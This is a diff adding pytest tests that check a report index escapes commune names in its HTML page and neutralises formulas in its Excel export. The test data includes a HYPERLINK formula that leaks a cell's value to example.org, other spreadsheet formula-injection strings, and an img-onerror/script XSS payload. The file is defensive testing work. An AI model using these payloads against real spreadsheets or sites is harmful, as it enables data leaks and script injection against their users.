@@ -1,0 +1,97 @@
+"""The index of a report set: names from data shown as typed, only its own scripts run, a workbook without formulas."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import numbers
+import re
+
+import pytest
+from openpyxl import load_workbook
+
+from povanalysis.common.safe import FORMULA_PREFIXES
+from povanalysis.reports import index, prepare
+
+#: Cells a spreadsheet program would evaluate: a link that leaks, a sum, a DDE call, a tab, a carriage return.
+FORMULAS = ('=HYPERLINK("http://example.org/?x="&A1,"xem")', "+1+2", "-3+4", "@SUM(A1:A2)", "\tTày", "\rNùng")
+
+HOSTILE = '<img src=x onerror="alert(1)"> & <script>alert(2)</script>'
+
+
+@pytest.fixture
+def hostile_figures(prepared, monkeypatch):
+    """Key figures whose first units are named with formulas, and the first unit's old area too."""
+    real = prepare.key_figures
+
+    def key_figures(*, review_year):
+        frame = real(review_year=review_year).copy()
+        frame.loc[frame.index[: len(FORMULAS)], "name"] = list(FORMULAS)
+        frame.loc[frame.index[0], "old_area"] = "=1+1"
+        return frame
+
+    monkeypatch.setattr(prepare, "key_figures", key_figures)
+
+
+def test_key_figures_workbook_holds_no_formula(hostile_figures, tmp_path):
+    path = index.write_xlsx(tmp_path / "key-figures.xlsx", review_year=2025)
+    wb = load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    ws = wb.worksheets[0]
+    header = [c.value for c in ws[1]]
+    names = [row[header.index("Xã, phường")] for row in ws.iter_rows(min_row=2, values_only=True)]
+    # shown as text, with the apostrophe (XML reads a carriage return back as a line feed)
+    assert names[: len(FORMULAS)] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
+    assert ws.cell(row=2, column=header.index("Địa bàn cũ") + 1).value == "'=1+1"
+    # numbers stay numbers, negative ones too
+    change = next(h for h in header if h.startswith("Thay đổi"))
+    values = [r[header.index(change)] for r in ws.iter_rows(min_row=2, values_only=True)]
+    assert any(isinstance(v, numbers.Number) and v < 0 for v in values)
+    assert all(v is None or isinstance(v, numbers.Number) for v in values)
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(FORMULA_PREFIXES)]
+
+
+def _policy_scripts(page: str) -> list[str]:
+    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
+    policy = policy.replace("&#x27;", "'")
+    return next(p.split()[1:] for p in policy.split(";") if p.split()[:1] == ["script-src"])
+
+
+def test_index_shows_names_as_typed_and_runs_only_its_own_scripts(prepared, tmp_path, monkeypatch):
+    real = prepare.key_figures
+    tables = prepare.shared_tables
+
+    def key_figures(*, review_year):
+        frame = real(review_year=review_year).copy()
+        frame.loc[frame.index[0], "name"] = HOSTILE
+        return frame
+
+    def shared_tables():
+        t, manifest = tables()
+        t = dict(t)
+        b = t["boundaries"].copy()
+        b.loc[b["commune_code"] == "01840", "name"] = HOSTILE
+        t["boundaries"] = b
+        return t, manifest
+
+    monkeypatch.setattr(prepare, "key_figures", key_figures)
+    monkeypatch.setattr(prepare, "shared_tables", shared_tables)
+    (tmp_path / "province").mkdir()
+    (tmp_path / "province" / "01-x.html").write_text("<p>x</p>", encoding="utf-8")
+    stamp = {"digest": "0", "title": HOSTILE}
+    (tmp_path / "province" / "01-x.stamp.json").write_text(json.dumps(stamp), encoding="utf-8")
+    path, status = index.build_index(tmp_path, review_year=2025, force=True)
+    page = path.read_text(encoding="utf-8")
+    body = page.split("<body>", 1)[1]
+    without_scripts = re.sub(r"<script\b.*?</script>", "", body, flags=re.S)
+    assert "<img" not in without_scripts and "<script" not in without_scripts
+    assert without_scripts.count("&lt;img src=x onerror=&quot;alert(1)&quot;&gt; &amp; &lt;script&gt;") >= 2
+    # the map's hover text holds the name escaped (plotly decodes entities), never as markup
+    assert "\\u003cimg" not in page and "&lt;img src=x" in page.split("province-map", 1)[1]
+    # every inline script of the page is the index's own, and the policy allows exactly those
+    inline = re.findall(r"<script>(.*?)</script>", page, re.S)
+    hashes = {"'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'" for s in inline}
+    assert len(inline) >= 2 and set(_policy_scripts(page)) == {"'self'", *hashes}
